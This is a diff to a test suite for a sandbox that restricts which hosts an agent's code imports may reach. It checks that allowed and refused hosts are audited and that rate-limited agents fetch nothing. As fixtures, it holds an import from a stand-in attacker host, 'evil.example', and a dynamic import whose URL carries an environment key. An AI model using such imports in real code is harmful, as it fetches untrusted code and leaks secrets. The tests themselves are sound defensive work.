@@ -37,6 +37,43 @@ describe.skipIf(!docker.available)('imports under attack', () => {
     expect((await kit.finish(other)).result?.stdout).toBe('trusted turned\n')
   }, 60_000)
 
+  it('every host that imports reach, and every one they may not, is told to the audit with the agent', async () => {
+    kit.hosts.files.set('https://esm.sh/told.js', 'export * from "./deep.js?out=data"\n')
+    kit.hosts.files.set('https://esm.sh/deep.js?out=data', 'export const deep = 1\n')
+    const code = 'import { deep } from "https://esm.sh/told.js"\nconsole.log("told", deep)\n'
+    await kit.submit(code)
+    kit.hosts.files.set('https://esm.sh/to-evil.js', 'import "https://evil.example/x.js"\n')
+    await expect(kit.submit('import "https://esm.sh/to-evil.js"\n')).rejects.toMatchObject({
+      message: expect.stringContaining('OAUTH3_IMPORT_HOSTS'),
+    })
+    const rows = kit.domain.audit
+      .newest(100)
+      .filter(({ event }) => event.startsWith('egress.'))
+      .map(({ event, actor, data }) => ({ event, actor, ...JSON.parse(data) }))
+    expect(new Set(rows.map(({ actor }) => actor))).toEqual(new Set([`agent:${kit.agent.id}`]))
+    expect(rows).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          event: 'egress.request',
+          for: 'imports',
+          origin: 'https://esm.sh',
+          status: 200,
+        }),
+        expect.objectContaining({ event: 'egress.refused', for: 'imports', origin: 'https://evil.example' }),
+      ]),
+    )
+  }, 60_000)
+
+  it('an agent without cards left has nothing fetched for its imports', async () => {
+    await using poor = await createImportKit({}, undefined, 1)
+    poor.hosts.files.set('https://esm.sh/a.js', 'export const a = 1\n')
+    await poor.submit('console.log(1)\n')
+    await expect(poor.submit('import "https://esm.sh/a.js"\n')).rejects.toMatchObject({
+      code: 'rate_limited',
+    })
+    expect(poor.hosts.seen).toEqual([])
+  }, 60_000)
+
   it.each([
     ['a computed address', 'await import("https://esm.sh/" + Deno.env.get("DEMO_KEY"))'],
     ['a module that was not locked', 'await import("https://esm.sh/" + ["not", "locked.js"].join("-"))'],
